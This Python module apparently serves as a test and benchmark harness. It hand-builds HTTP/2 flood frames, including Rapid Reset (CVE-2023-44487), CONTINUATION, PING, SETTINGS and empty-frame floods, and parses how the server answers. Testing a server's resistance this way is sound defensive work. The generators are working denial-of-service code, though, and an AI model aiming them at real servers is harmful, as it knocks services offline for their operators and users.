"""HTTP/2 flood traffic, sans-IO: the frames of each attack, and a reader for the server's answer.

The h2 library refuses to send most of these (a CONTINUATION that never ends a header block,
empty DATA frames, a reset right after every request), so the attacker builds frames itself
with hyperframe and its own HPACK encoder. The flood tests (tests/enforcer/test_h2_floods.py)
drive it over trio and TLS; bench/h2floods.py drives it over blocking sockets.
"""

from __future__ import annotations

import dataclasses
from collections.abc import Iterator

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
ENHANCE_YOUR_CALM = 0xB
KINDS = (
    "rapid_reset",
    "ping",
    "settings",
    "priority",
    "continuation",
    "empty_data",
    "empty_headers",
    "window_update",
)


def _frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream_id.to_bytes(4, "big")
    ) + payload


def _wire(frames: Iterator[Frame] | list[Frame]) -> bytes:
    return b"".join(f.serialize() for f in frames)


class FloodWriter:
    """An attacking HTTP/2 client's bytes, one batch at a time."""

    def __init__(self, authority: str, path: str = "/") -> None:
        self.authority = authority
        self.path = path
        self.encoder = Encoder()
        self.next_stream = 1
        self.streams_opened = 0

    def opening(self) -> bytes:
        """The client preface and an empty SETTINGS frame."""
        return PREFACE + SettingsFrame(0, {}).serialize()

    def _block(self, extra: list[tuple[str, str]] | None = None) -> bytes:
        headers = [
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", self.authority),
            (":path", self.path),
        ]
        return bytes(self.encoder.encode(headers + (extra or [])))

    def _stream(self) -> int:
        sid = self.next_stream
        self.next_stream += 2
        self.streams_opened += 1
        return sid

    def requests(self, n: int) -> bytes:
        """``n`` complete GET requests (HEADERS with END_STREAM) on new streams."""
        return _wire(
            HeadersFrame(self._stream(), self._block(), flags=["END_HEADERS", "END_STREAM"])
            for _ in range(n)
        )

    def rapid_reset(self, n: int) -> bytes:
        """``n`` requests each reset at once (CVE-2023-44487)."""
        # The same header list each time: once a block has been encoded, HPACK makes every
        # later one the same bytes (indexed fields, no table change), so blocks are reused and
        # frames packed directly (the bench's attacker must not be the bottleneck it measures).
        block = self._block()
        cancel = CANCEL.to_bytes(4, "big")
        out = bytearray()
        for i in range(n):
            if i == 1:
                block = self._block()  # every block from here on is this one
            sid = self._stream()
            out += _frame(0x1, 0x5, sid, block)  # HEADERS, END_STREAM | END_HEADERS
            out += _frame(0x3, 0x0, sid, cancel)  # RST_STREAM(CANCEL)
        return bytes(out)

    def pings(self, n: int) -> bytes:
        """``n`` PING frames, each the server must acknowledge."""
        return _wire(PingFrame(0, opaque_data=i.to_bytes(8, "big")) for i in range(n))

    def settings(self, n: int) -> bytes:
        """``n`` empty SETTINGS frames, each the server must acknowledge."""
        return _wire(SettingsFrame(0, {}) for _ in range(n))

    def priority(self, n: int) -> bytes:
        """``n`` PRIORITY frames for idle streams."""
        return _wire(PriorityFrame(2 * i + 1, depends_on=0, stream_weight=15) for i in range(n))

    def window_updates(self, n: int) -> bytes:
        """``n`` connection-level WINDOW_UPDATE frames of one byte each."""
        return _wire(WindowUpdateFrame(0, window_increment=1) for _ in range(n))

    def open_header_block(self) -> tuple[int, bytes]:
        """A HEADERS frame that leaves its header block open (a CONTINUATION flood's start)."""
        sid = self._stream()
        return sid, HeadersFrame(sid, self._block(), flags=[]).serialize()

    def continuations(self, stream_id: int, n: int, size: int = 1) -> bytes:
        """``n`` CONTINUATION frames of ``size`` bytes that never end the block."""
        return _wire(ContinuationFrame(stream_id, b"\x00" * size) for _ in range(n))

    def open_stream(self) -> tuple[int, bytes]:
        """A request whose body is still to come (HEADERS without END_STREAM)."""
        sid = self._stream()
        return sid, HeadersFrame(sid, self._block(), flags=["END_HEADERS"]).serialize()

    def empty_data(self, stream_id: int, n: int) -> bytes:
        """``n`` DATA frames with no payload and no END_STREAM."""
        return _wire(DataFrame(stream_id, b"") for _ in range(n))

    def empty_headers(self, n: int) -> bytes:
        """``n`` HEADERS frames with an empty header block that does not end."""
        return _wire(HeadersFrame(self._stream(), b"", flags=[]) for _ in range(n))

    def big_header(self, size: int, max_frame: int = 16384) -> tuple[int, bytes]:
        """A request carrying one header of ``size`` bytes, split into frames as clients do."""
        sid = self._stream()
        block = self._block([("x-big", "v" * size)])
        chunks = [block[i : i + max_frame] for i in range(0, len(block), max_frame)]
        frames: list[Frame] = [HeadersFrame(sid, chunks[0], flags=["END_STREAM"])]
        frames += [ContinuationFrame(sid, c) for c in chunks[1:]]
        frames[-1].flags.add("END_HEADERS")
        return sid, _wire(frames)


@dataclasses.dataclass
class ServerAnswer:
    """What the server sent back to an attacker (or a plain client)."""

    goaway: int | None = None  # the GOAWAY error code, once one came
    last_stream_id: int | None = None
    closed: bool = False  # the server closed the connection
    statuses: dict[int, int] = dataclasses.field(default_factory=dict)  # stream -> :status
    resets: dict[int, int] = dataclasses.field(default_factory=dict)  # stream -> error code
    ping_acks: int = 0
    settings_acks: int = 0
    server_settings: dict[int, int] = dataclasses.field(default_factory=dict)


class FrameReader:
    """Parses the server's frames as bytes arrive, HPACK included, into a :class:`ServerAnswer`."""

    def __init__(self) -> None:
        self.answer = ServerAnswer()
        self._buf = bytearray()
        self._decoder = Decoder()
        self._decoder.max_header_list_size = 1 << 20
        self._block: list[bytes] = []
        self._block_stream = 0

    def feed(self, data: bytes) -> None:
        """Account for bytes from the server (``b""``: it closed the connection)."""
        if not data:
            self.answer.closed = True
            return
        self._buf += data
        while len(self._buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self._buf[:9]))
            if len(self._buf) < 9 + length:
                return
            frame.parse_body(memoryview(self._buf[9 : 9 + length]))
            del self._buf[: 9 + length]
            self._frame(frame)

    def _frame(self, f: Frame) -> None:
        a = self.answer
        if isinstance(f, GoAwayFrame):
            a.goaway = f.error_code
            a.last_stream_id = f.last_stream_id
        elif isinstance(f, RstStreamFrame):
            a.resets[f.stream_id] = f.error_code
        elif isinstance(f, PingFrame) and "ACK" in f.flags:
            a.ping_acks += 1
        elif isinstance(f, SettingsFrame):
            if "ACK" in f.flags:
                a.settings_acks += 1
            else:
                a.server_settings.update(f.settings)
        elif isinstance(f, HeadersFrame | ContinuationFrame):
            if isinstance(f, HeadersFrame):
                self._block, self._block_stream = [], f.stream_id
            self._block.append(bytes(f.data))
            if "END_HEADERS" in f.flags:
                headers = self._decoder.decode(b"".join(self._block))
                status = dict(headers).get(":status")
                if status is not None and self._block_stream not in a.statuses:
                    a.statuses[self._block_stream] = int(status)

    def settings_ack(self) -> bytes:
        """The SETTINGS ACK a client owes the server for its SETTINGS."""
        return SettingsFrame(0, flags=["ACK"]).serialize()
